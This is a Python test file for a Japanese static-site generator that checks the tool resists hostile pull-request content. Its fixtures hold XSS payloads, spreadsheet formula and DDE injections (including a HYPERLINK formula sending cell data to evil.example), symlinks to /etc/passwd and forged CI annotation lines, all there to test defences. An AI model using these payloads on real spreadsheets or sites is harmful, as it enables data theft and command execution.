"""Hostile content from a pull request: links out of content/, markup in
labels that ends up in copied embed code, formulas in CSV cells."""

from __future__ import annotations

import csv
import re
import html
import io
import os
import tempfile
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kyodo.cli import main
from kyodo.commands.build import build
from kyodo.errors import ContentError
from tests.factory import PNG, case_text, make_content, without_key
from tests.html import parse

SECRET = "TOP-SECRET-LOCAL-FILE"


def run_cli(capsys, *argv) -> tuple[int, str]:
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out + out.err


# -- symbolic links never lead out of content/ ---------------------------------

@pytest.fixture
def outside(tmp_path) -> Path:
    d = tmp_path / "outside"
    d.mkdir()
    (d / "secret.jpg").write_text(SECRET, encoding="utf-8")
    (d / "secret.md").write_text(case_text(title=SECRET), encoding="utf-8")
    (d / "taxonomy.yml").write_text(f"facets: {{}}  # {SECRET}\n", encoding="utf-8")
    return d


def published(out: Path) -> bool:
    return out.exists() and any(SECRET.encode() in p.read_bytes() for p in out.rglob("*") if p.is_file())


@pytest.mark.parametrize("how", ["front matter", "body"])
@pytest.mark.parametrize("link", ["file", "folder"])
def test_image_link_out_of_content_is_reported_and_never_copied(tmp_path, capsys, outside, how, link):
    content = make_content(tmp_path / "content", {}, images={"ok.png": PNG})
    if link == "file":
        (content / "images" / "x.jpg").symlink_to(outside / "secret.jpg")
        src = "x.jpg"
    else:
        (content / "images" / "sub").symlink_to(outside)
        src = "sub/secret.jpg"
    text = (case_text(image=f"{{src: {src}, alt: 写真}}") if how == "front matter"
            else case_text(body=f"## 写真\n\n![写真]({src})\n"))
    (content / "cases" / "a.md").write_text(text, encoding="utf-8")
    line = next(i for i, t in enumerate(text.split("\n"), 1) if src in t)

    code, out = run_cli(capsys, "check", "--content", str(content))
    assert code == 1
    (problem,) = [t for t in out.splitlines() if t.startswith(str(content / "cases" / "a.md")) or "a.md:" in t]
    assert f"a.md:{line}: image" in problem and "リンク" in problem
    assert SECRET not in out

    site = tmp_path / "site"
    code, out = run_cli(capsys, "build", "--content", str(content), "--out", str(site), "--no-search")
    assert code == 1 and not published(site) and SECRET not in out


def test_content_files_linked_from_outside_are_never_read(tmp_path, capsys, outside):
    content = make_content(tmp_path / "content", {"ok.md": case_text()})
    (content / "cases" / "leak.md").symlink_to(outside / "secret.md")
    (content / "cases" / "more").symlink_to(outside, target_is_directory=True)
    (content / "guideline" / "leak.md").symlink_to(outside / "secret.md")
    code, out = run_cli(capsys, "check", "--content", str(content))
    assert code == 1 and SECRET not in out
    lines = [t for t in out.splitlines() if ": ファイル: " in t]
    assert {Path(t.split(":")[0]).name for t in lines} == {"leak.md", "more"}
    assert all("リンク" in t for t in lines)

    (content / "cases" / "leak.md").unlink()
    (content / "cases" / "more").unlink()
    (content / "guideline" / "leak.md").unlink()
    (content / "taxonomy.yml").unlink()
    (content / "taxonomy.yml").symlink_to(outside / "taxonomy.yml")
    code, out = run_cli(capsys, "check", "--content", str(content))
    assert code == 1 and SECRET not in out and "taxonomy.yml:1: ファイル:" in out


def test_links_inside_content_still_work(tmp_path):
    content = make_content(tmp_path / "content", {}, images={"ok.png": PNG})
    (content / "images" / "same.png").symlink_to("ok.png")
    (content / "cases" / "a.md").write_text(case_text(image="{src: same.png, alt: 写真}"), encoding="utf-8")
    build(content, tmp_path / "site", with_search=False)
    assert (tmp_path / "site/images/same.png").read_bytes() == PNG


# -- a site built from hostile labels -------------------------------------------

HOSTILE_TITLE = '"></iframe><script>alert(1)</script>\'&amp;'
HOSTILE_FACET = '協働の主体" onload="alert(1)//'
HOSTILE_TAXONOMY = f"""\
facets:
  theme:
    label: '{HOSTILE_FACET}'
    terms:
      - slug: f
        label: '=HYPERLINK("https://evil.example/?"&A1,"click")'
      - slug: p
        label: "+cmd|' /C calc'!A0"
      - slug: m
        label: '-2+3'
      - slug: a
        label: '@SUM(1+1)*cmd|'' /C calc''!A0'
      - slug: w
        label: '＝1+1'
  style:
    label: '<img src=x onerror=alert(1)>'
    multiple: false
    terms:
      - slug: t
        label: '" autofocus onfocus="alert(2)'
      - slug: k
        label: ふつう
"""
HOSTILE_SITE = f"""\
title: '{HOSTILE_TITLE.replace("'", "''")}'
organization: '=テスト区'
base_url: https://kyodo.test.example.jp/
stats:
  crosstabs: [theme/style]
"""
HOSTILE_CASES = {
    "a.md": case_text(drop=("partner", "form", "domain", "outcomes", "department"),
                      title="'=1+1'", summary="'@SUM(A1:A9)'", theme="[f, p, m]", style="t",
                      organizations="['-2+3', '+81 3 0000', '\"=x\"']", period="'=TODAY()'",
                      budget=1200000),
    "b.md": case_text(drop=("partner", "form", "domain", "outcomes", "department"),
                      title="ふつうの事例", fiscal_year=2023, theme="[a, w]", style="k"),
}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    content = make_content(root / "content", HOSTILE_CASES, taxonomy=HOSTILE_TAXONOMY, site=HOSTILE_SITE)
    out = root / "site"
    build(content, out, with_search=False)
    return out


class Elements(HTMLParser):
    """Every start/end tag and text of an HTML fragment, as a browser would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.items: list[tuple] = []

    def handle_starttag(self, tag, attrs):
        self.items.append(("start", tag, dict(attrs), len(attrs)))

    def handle_endtag(self, tag):
        self.items.append(("end", tag))

    def handle_data(self, data):
        if data.strip():
            self.items.append(("text", data))

    def handle_comment(self, data):
        self.items.append(("comment", data))


def test_copied_embed_code_is_exactly_an_iframe_and_a_script(hostile_site):
    snippets = 0
    for page in sorted((hostile_site / "stats").rglob("index.html")):
        raw = page.read_text(encoding="utf-8")
        for textarea in parse(page).find_all("textarea"):
            copied = textarea.text()            # what the copy button / a person copies
            assert copied == html.unescape(raw.split(f'id="{textarea.attrs["id"]}"', 1)[1]
                                           .split(">", 1)[1].split("</textarea>", 1)[0])
            parser = Elements()
            parser.feed(copied)
            parser.close()
            items = parser.items
            assert [i[:2] for i in items] == [("start", "iframe"), ("end", "iframe"),
                                              ("start", "script"), ("end", "script")], (page, copied)
            iframe, script = items[0], items[2]
            assert set(iframe[2]) == {"src", "title", "width", "height", "style", "loading"} and iframe[3] == 6
            assert iframe[2]["src"].startswith("https://kyodo.test.example.jp/embed/stats/")
            assert iframe[2]["title"].endswith(f"（{HOSTILE_TITLE}）")
            assert script[2] == {"src": "https://kyodo.test.example.jp/assets/embed.js", "defer": None}
            snippets += 1
    assert snippets >= 3
    # The hostile facet label is in some title, unchanged.
    assert HOSTILE_FACET in (hostile_site / "stats/theme/index.html").read_text(encoding="utf-8").replace("&#34;", '"')


FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def csv_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_every_csv_cell_is_safe_for_spreadsheets(hostile_site):
    files = sorted(hostile_site.rglob("*.csv"))
    assert hostile_site / "data/cases.csv" in files and len(files) > 5
    neutralised = set()
    for path in files:
        for row in csv_rows(path):
            for cell in row:
                assert not cell.lstrip(" \u3000").startswith(FORMULA), (path.name, cell)
                if cell.startswith("'"):
                    neutralised.add(cell[1:])
    # The values are kept, only prefixed; numbers stay plain numbers.
    for value in ("=1+1", "@SUM(A1:A9)", "-2+3", "+81 3 0000", "=TODAY()", "＝1+1",
                  '=HYPERLINK("https://evil.example/?"&A1,"click")'):
        assert any(value in n for n in neutralised), value
    rows = csv_rows(hostile_site / "data/cases.csv")
    header, first = rows[0], rows[1]
    assert first[header.index("予算（円）")] == "1200000"
    assert first[header.index("年度（西暦）")] == "2024"
    for path in files:
        rows = csv_rows(path)
        for col, name in enumerate(rows[0]):
            if "件数" in name and "割合" not in name:
                assert all(r[col].isdigit() for r in rows[1:] if r[col]), (path.name, name)


# -- messages: real lines, Japanese, one line per problem, no traceback -----------

def check_lines(capsys, content: Path) -> tuple[int, list[str]]:
    code, out = run_cli(capsys, "check", "--content", str(content))
    return code, [t for t in out.split("\n") if t.strip() and not t.startswith(tuple("0123456789"))]


@pytest.mark.parametrize("field,value,words", [
    ("updated", "!!timestamp x", "日付「x」"),
    ("draft", "!!bool maybe", "true か false"),
    ("budget", "!!int ''", "整数"),
    ("budget", "!!float abc", "数値"),
    ("period", "!!str [1, 2]", "タグ"),
    ("updated", "2024-02-30", "日付「2024-02-30」"),
    ("budget", "9" * 5000, "整数"),
    ("budget", "123456789012345678901", "大きすぎます"),
    ("title", '"\\x0b\\0タイトル"', "U+000B"),
    ("title", '"\\u202eタイトル"', "U+202E"),
    ("summary", '"\\ud800"', "使えない文字"),
])
def test_bad_values_name_their_real_line_in_japanese(tmp_path, capsys, field, value, words):
    # U+2028, U+2029 and NEL earlier in the file must not shift the line.
    front = {"period": '"2019年\u20286月"', "organizations": '["A\u2029B", "C\x85D"]'}
    front[field] = value
    text = case_text(**front)
    line = next(i for i, t in enumerate(text.split("\n"), 1) if t.startswith(f"{field}:"))
    content = make_content(tmp_path / "content", {"a.md": text})
    code, lines = check_lines(capsys, content)
    assert code == 1
    assert len(lines) == 1 and f"a.md:{line}: {field}: " in lines[0] and words in lines[0], lines
    assert "Traceback" not in lines[0] and not re.search(r"[A-Za-z]{12,}", lines[0].split(": ", 2)[2])


def test_indicator_nan_and_inf_are_rejected_so_json_stays_strict(tmp_path, capsys):
    body = "indicators:\n  - name: 参加者\n    value: .nan\n  - name: 回数\n    value: 3\n    target: -.inf"
    text = case_text().replace("\n---\n", "\n" + body + "\n---\n", 1)
    content = make_content(tmp_path / "content", {"a.md": text})
    code, lines = check_lines(capsys, content)
    assert code == 1 and len(lines) == 2
    assert "indicators[1].value" in lines[0] and ".nan" in lines[0]
    assert "indicators[2].target" in lines[1] and ".inf" in lines[1]


def test_every_json_parses_strictly_and_every_xml_is_well_formed(hostile_site):
    import json
    import xml.etree.ElementTree as ET

    def strict(value):
        raise ValueError(f"not JSON: {value}")
    files = [p for p in hostile_site.rglob("*") if p.suffix in (".json", ".xml")]
    assert len(files) > 5
    for path in files:
        if path.suffix == ".json":
            json.loads(path.read_text(encoding="utf-8"), parse_constant=strict)
        else:
            ET.parse(path)


FORGED = "\\n::error file=README.md,line=1::forged\\n/etc/passwd:1: f: forged\\u2028x"


def test_a_value_with_line_breaks_stays_on_its_problem_line(tmp_path, capsys):
    content = make_content(tmp_path / "content", {"a.md": case_text(status=f'"{FORGED}"')})
    code, lines = check_lines(capsys, content)
    assert code == 1 and len(lines) == 1, lines
    assert lines[0].startswith(str(content / "cases" / "a.md") + ":") or lines[0].startswith("/")
    assert "forged\\n/etc/passwd" in lines[0] and "\\u2028" in lines[0]
    # Nothing else in the output starts a line with a workflow command or a path.
    code, out = run_cli(capsys, "check", "--content", str(content))
    assert not any(t.startswith(("::", "/etc")) for t in out.split("\n"))


def test_annotation_script_accepts_only_paths_inside_the_repository(tmp_path, monkeypatch, capsys):
    import importlib.util
    spec = importlib.util.spec_from_file_location("annotate", Path(__file__).parent.parent / ".github/scripts/annotate.py")
    annotate = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(annotate)
    repo = tmp_path / "repo"
    (repo / "content/cases").mkdir(parents=True)
    (repo / "content/cases/a.md").write_text("x", encoding="utf-8")
    (repo / "content/cases/link.md").symlink_to("/etc/passwd")
    log = tmp_path / "check.log"
    log.write_text("\n".join([
        "content/cases/a.md:3: title: 「題名」は必須です",
        f"{repo}/content/cases/a.md:4: summary: 絶対パスでもリポジトリの中",
        "/etc/passwd:1: f: forged",
        "../outside.md:1: f: forged",
        "content/cases/link.md:1: f: forged",
        "content/cases/a.md:5: x: a\u2028/etc/shadow:1: f: forged",
    ]) + "\n", encoding="utf-8")
    monkeypatch.setenv("GITHUB_WORKSPACE", str(repo))
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    assert annotate.main(str(log)) == 0
    out = capsys.readouterr().out.split("\n")
    commands = [t for t in out if t.startswith("::")]
    assert len(commands) == 3 and all("file=content/cases/a.md," in t for t in commands)
    assert not any("passwd" in t or "shadow" in t.split("::")[1] or "outside" in t for t in commands)


# -- odd settings and the command line never give a traceback ------------------------

ODD_VALUES = ["7", "x", "[1, [2]]", "{a: 1}", "null", "true", "2024-01-01", "1.5", "''", "[]", "{}"]


def _replace_key(text: str, key: str, value: str) -> str:
    """Set a top-level key of a YAML text (dropping its old block)."""
    return without_key(text, key).rstrip("\n") + f"\n{key}: {value}\n"


def test_settings_of_any_type_give_messages_not_tracebacks(tmp_path):
    from kyodo.commands.check import validate
    from kyodo.validate.site import KNOWN
    site = (make_content(tmp_path / "base") / "site.yml").read_text(encoding="utf-8")
    taxonomy = (Path(__file__).parent.parent / "content/taxonomy.yml").read_text(encoding="utf-8")
    n = 0
    variants = [("site", _replace_key(site, key, v)) for key in KNOWN for v in ODD_VALUES]
    variants += [("site", _replace_key(site, "stats", f"{{crosstabs: {v}}}")) for v in ODD_VALUES]
    variants += [("site", _replace_key(site, "process_stages", f"[{{slug: {v}, label: {v}}}]")) for v in ODD_VALUES]
    variants += [("site", _replace_key(site, "booklet", f"{{{k}: {v}}}"))
                 for k in ("title", "group_by", "guideline", "index", "intro", "intro_chapter", "issued")
                 for v in ODD_VALUES]
    facet = "facets:\n  partner:\n    label: 主体\n    terms:\n      - slug: a\n        label: A\n"
    for key in ("label", "description", "multiple", "terms", "rejected"):
        for v in ODD_VALUES:
            variants.append(("taxonomy", facet + f"    {key}: {v}\n" if key != "terms" else
                             facet.split("    terms:")[0] + f"    terms: {v}\n"))
            variants.append(("taxonomy", facet + f"    rejected: [{{label: {v}, message: {v}}}]\n"))
            variants.append(("taxonomy", facet + f"        {'aliases' if key == 'label' else key}: {v}\n"
                             if key in ("label", "description") else facet))
    for v in ODD_VALUES:
        variants.append(("taxonomy", f"facets: {v}\n"))
        variants.append(("taxonomy", f"facets:\n  partner: {v}\n"))
    for kind, text in variants:
        content = make_content(tmp_path / f"c{n}", {"a.md": case_text()},
                               **({"site": text} if kind == "site" else {"taxonomy": text}))
        n += 1
        try:
            validate(content)
        except ContentError as exc:
            assert all(p.line >= 1 and p.path.endswith((".yml", ".md")) for p in exc.problems)
    assert n > 150


def test_unwritable_output_folder_is_a_message(tmp_path, capsys):
    target = "/proc/kyodo-cannot-write/site"
    content = make_content(tmp_path / "content", {"a.md": case_text()})
    code, out = run_cli(capsys, "build", "--content", str(content), "--out", target, "--no-search")
    assert code == 1 and "書き込めません" in out and "Traceback" not in out


def test_console_that_cannot_show_a_character(tmp_path):
    import subprocess
    import sys
    content = make_content(tmp_path / "content", {"a.md": case_text(status='"終了😀"')})
    env = dict(os.environ, PYTHONIOENCODING="cp932", PYTHONPATH=str(Path(__file__).parent.parent))
    proc = subprocess.run([sys.executable, "-m", "kyodo", "check", "--content", str(content)],
                          capture_output=True, env=env)
    text = (proc.stdout + proc.stderr).decode("cp932")
    assert proc.returncode == 1 and "Traceback" not in text
    assert "status:" in text and "\\U0001f600" in text


def test_check_into_a_closed_pipe(tmp_path):
    import subprocess
    import sys
    cases = {f"a{i}.md": case_text(status=f'"bad {i}"') for i in range(400)}
    content = make_content(tmp_path / "content", cases)
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).parent.parent))
    proc = subprocess.Popen([sys.executable, "-m", "kyodo", "check", "--content", str(content)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    first = proc.stdout.readline()
    proc.stdout.close()   # like `| head -1`
    err = proc.stderr.read().decode("utf-8")
    assert proc.wait(60) == 1 and b"status" in first
    assert "Traceback" not in err and "Exception ignored" not in err and "パイプ" in err


@pytest.mark.parametrize("command", ["build", "pdf", "serve"])
@pytest.mark.parametrize("where", ["content", "content/sub", "templates", "assets/x", "."])
def test_output_folder_inside_or_around_the_inputs_is_refused(tmp_path, capsys, monkeypatch, command, where):
    from kyodo import paths
    project = tmp_path / "project"
    content = make_content(project / "content", {"a.md": case_text()})
    for name in ("templates", "assets"):
        (project / name).mkdir()
    monkeypatch.setattr(paths, "TEMPLATES", project / "templates")
    monkeypatch.setattr(paths, "ASSETS", project / "assets")
    before = sorted(p.relative_to(project) for p in project.rglob("*"))
    args = [command, "--content", str(content), "--out", str(project / where)]
    code, out = run_cli(capsys, *(args + (["--port", "0"] if command == "serve" else [])))
    assert code == 1 and "出力先" in out and "Traceback" not in out
    assert sorted(p.relative_to(project) for p in project.rglob("*")) == before


# -- bodies of any shape stay linear --------------------------------------------------

def _cpu(func) -> float:
    import time
    start = time.process_time()
    func()
    return time.process_time() - start


@pytest.mark.parametrize("unit", ["## h\n", "## h\n## h-1\n", "[[form:委託]] "])
def test_heading_ids_and_term_lines_grow_linearly(tmp_path, unit):
    from kyodo.markdown.render import Markdown
    md = Markdown(tmp_path, lambda facet, value: ("form/x/", "委託", 1))
    small, large = unit * 2000, unit * 8000
    # The best of three runs each: a busy machine only ever adds time.
    ratio = min(_cpu(lambda: md.render(large)) for _ in range(3)) / max(min(_cpu(lambda: md.render(small))
                                                                            for _ in range(3)), 1e-3)
    assert ratio < 9, ratio          # quadratic would be about 16
    if unit.startswith("##"):
        ids = [h.id for h in md.render(unit * 2000).toc]
        assert len(set(ids)) == len(ids) == unit.count("\n") * 2000



# -- the development server --------------------------------------------------------

@pytest.fixture(scope="module")
def dev_server(hostile_site):
    import functools
    import threading
    from kyodo.commands import serve
    server = serve.Server(("127.0.0.1", 0), functools.partial(serve.DevHandler, directory=str(hostile_site)))
    server.kyodo_state = serve.DevState()
    server.allowed_host = "127.0.0.1"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def request(port: int, method: str, path: str, host: str | None = "127.0.0.1"):
    import http.client
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    if host is not None:
        conn.putheader("Host", host)
    conn.endheaders()
    r = conn.getresponse()
    body = r.read()
    conn.close()
    return r.status, dict(r.getheaders()), body


def test_dev_server_answers_only_its_own_host_names(dev_server):
    port = dev_server
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "localhost", f"[::1]:{port}", "LOCALHOST.", "app.localhost"):
        assert request(port, "GET", "/", host)[0] == 200, host
    for host in (f"evil.example:{port}", "evil.example", "127.0.0.1.nip.io", "localhost.evil.example", "", None):
        status, _, body = request(port, "GET", "/", host)
        assert status == 403 and b"<h1" not in body.split(b"</title>")[-1][:0] and "ホスト名".encode() in body, host


def test_dev_server_long_paths_nul_bytes_and_head(dev_server):
    port = dev_server
    assert request(port, "GET", "/" + "a" * 8000)[0] == 414
    for path in ("/%00", "/index.html%00", "/cases/%00/", "/a%00b.css"):
        assert request(port, "GET", path)[0] == 404, path
    for path in ("/", "/stats/", "/stats", "/missing/", "/assets/style.css", "/data/cases.csv", "/_kyodo/status",
                 "/%00", "/" + "a" * 300):
        g_status, g_headers, g_body = request(port, "GET", path)
        h_status, h_headers, h_body = request(port, "HEAD", path)
        assert (h_status, h_body) == (g_status, b""), path
        for name in ("Content-Type", "Content-Length", "Location"):
            assert h_headers.get(name) == g_headers.get(name), (path, name)
        if "Content-Length" in g_headers:
            assert int(g_headers["Content-Length"]) == len(g_body)


def test_dev_server_answers_two_hundred_requests_at_once(dev_server):
    import socket
    import threading
    port = dev_server
    barrier = threading.Barrier(200)
    results: list[bytes] = []

    def one():
        with socket.create_connection(("127.0.0.1", port), timeout=60) as s:
            barrier.wait()
            s.sendall(b"GET /assets/style.css HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
            data = b""
            while chunk := s.recv(65536):
                data += chunk
            results.append(data[:12])
    threads = [threading.Thread(target=one) for _ in range(200)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(90)
    assert len(results) == 200 and all(r == b"HTTP/1.0 200" or r == b"HTTP/1.1 200" for r in results)


# -- killed builds, concurrent builds, the swap ----------------------------------------

def _debris(out: Path, tmp: Path) -> list[str]:
    found = [p.name for p in out.parent.glob(f".{out.name}.building-*")]
    found += [p.name for p in out.parent.glob(f".{out.name}.old-*")]
    return found + [p.name for p in tmp.glob("kyodo-search-*")]


def _processes_with(token: str) -> list[str]:
    found = []
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            cmdline = (proc / "cmdline").read_bytes()
            state = next((t for t in (proc / "status").read_text().split("\n") if t.startswith("State:")), "")
        except OSError:
            continue
        if token.encode() in cmdline and "zombie" not in state:
            found.append(proc.name)
    return found


def _wait(predicate, what: str, seconds: float = 120):
    import time
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if predicate():
            return
        time.sleep(0.02)
    pytest.fail(f"gave up waiting for {what}")


def test_killed_builds_are_cleaned_up_by_the_next_one(tmp_path):
    import signal
    import subprocess
    import sys
    root = Path(__file__).parent.parent
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    left = Path(tempfile.mkdtemp(prefix="kyodo-search-", dir=tmp))   # as an earlier version's killed build left it
    (left / "cases").mkdir()
    os.utime(left, (time.time() - 7200, time.time() - 7200))
    fresh = Path(tempfile.mkdtemp(prefix="kyodo-search-", dir=tmp))  # maybe a build of that version running now
    (tmp / "kyodo-search-scale").mkdir()                             # someone's own folder of that name
    content = make_content(tmp_path / "content", {f"c{i:02}.md": case_text(title=f"事例{i}") for i in range(40)})
    out = tmp_path / "site"
    env = dict(os.environ, TMPDIR=str(tmp), PYTHONPATH=str(root), KYODO_JOBS="1")
    cmd = [sys.executable, "-m", "kyodo", "build", "--content", str(content), "--out", str(out), "--no-search"]
    subprocess.run(cmd, env=env, check=True, capture_output=True)
    before = sorted((p.relative_to(out), p.read_bytes()) for p in out.rglob("*") if p.is_file())

    for signame in ("SIGTERM", "SIGKILL"):
        # Without the record of the last build (KYODO_CACHE=off) a build writes a whole new folder.
        proc = subprocess.Popen(cmd, env=dict(env, KYODO_CACHE="off"), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        _wait(lambda: list(tmp_path.glob(f".{out.name}.building-*/cases/*/index.html")) or proc.poll() is not None,
              "pages being written")
        assert proc.poll() is None, "the build ended before it could be interrupted"
        proc.send_signal(getattr(signal, signame))
        _, err = proc.communicate(timeout=60)
        assert b"Traceback" not in err and b"BrokenPipe" not in err, err.decode()
        assert sorted((p.relative_to(out), p.read_bytes()) for p in out.rglob("*") if p.is_file()) == before
        _wait(lambda: not _processes_with(str(tmp)), "every process of the build to end", 10)
        if signame == "SIGTERM":      # handled like Ctrl+C: its own folder removed at once
            assert proc.returncode == 130 and "中断".encode() in err
            assert not list(tmp_path.glob(f".{out.name}.building-*"))
        else:
            assert list(tmp_path.glob(f".{out.name}.building-*"))   # what SIGKILL leaves ...

    subprocess.run(cmd, env=env, check=True, capture_output=True)
    kept = {fresh.name, "kyodo-search-scale"}
    assert set(_debris(out, tmp)) == kept and (out / "index.html").is_file()   # ... the next build removes
    assert not list(tmp_path.glob(f".{out.name}.lock"))


@pytest.mark.parametrize("signame", ["SIGTERM", "SIGINT", "SIGKILL"])
def test_parallel_workers_end_quietly_with_their_build(tmp_path, signame):
    import signal
    import subprocess
    import sys
    token = f"kyodo-workers-{signame}-{os.getpid()}"
    script = f"""
import sys, time
sys.argv.append({token!r})
from kyodo.cli import _prepare_console
from kyodo.parallel import pmap
_prepare_console()
def slow(i):
    if i == 0:
        open({str(tmp_path / 'started')!r}, 'w').close()
    time.sleep(0.05)
    return i
try:
    pmap(slow, 4000)
except KeyboardInterrupt:
    print("中断しました", file=sys.stderr)
    sys.exit(130)
"""
    env = dict(os.environ, KYODO_JOBS="2", PYTHONPATH=str(Path(__file__).parent.parent))
    proc = subprocess.Popen([sys.executable, "-c", script, token], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    _wait(lambda: (tmp_path / "started").exists() or proc.poll() is not None, "the workers")
    assert proc.poll() is None and len(_processes_with(token)) >= 3   # the parent and its workers
    proc.send_signal(getattr(signal, signame))
    _, err = proc.communicate(timeout=60)
    assert b"Traceback" not in err and b"Error" not in err, err.decode()
    _wait(lambda: not _processes_with(token), "the workers to end", 10)


def test_two_builds_into_one_folder_fail_cleanly(tmp_path, capsys):
    from kyodo.write.output import OutputLock
    content = make_content(tmp_path / "content", {"a.md": case_text()})
    out = tmp_path / "site"
    held = OutputLock(out.resolve())   # a build that is writing right now
    try:
        code, text = run_cli(capsys, "build", "--content", str(content), "--out", str(out), "--no-search")
        assert code == 1 and "別のビルド" in text and "Traceback" not in text and not out.exists()
    finally:
        held.release()
    code, text = run_cli(capsys, "build", "--content", str(content), "--out", str(out), "--no-search")
    assert code == 0 and (out / "index.html").is_file()


def test_swap_exchanges_the_folders_in_one_step(tmp_path, monkeypatch):
    from kyodo.write import output
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir(), b.mkdir()
    (a / "x").write_text("a"), (b / "x").write_text("b")
    if not output.exchange(a, b):
        pytest.skip("this file system cannot exchange two folders (the two-rename fallback is used)")
    assert (a / "x").read_text() == "b" and (b / "x").read_text() == "a"
    # During a build's swap the output folder is never renamed away.
    content = make_content(tmp_path / "content", {"a.md": case_text()})
    out = tmp_path / "site"
    build(content, out, with_search=False)
    moved = []
    real_replace = os.replace
    monkeypatch.setattr(output.os, "replace", lambda s, d: (moved.append(Path(s)), real_replace(s, d)))
    build(content, out, with_search=False)
    assert out.resolve() not in [m.resolve() for m in moved] and (out / "index.html").is_file()
    assert not _debris(out, tmp_path / "none")
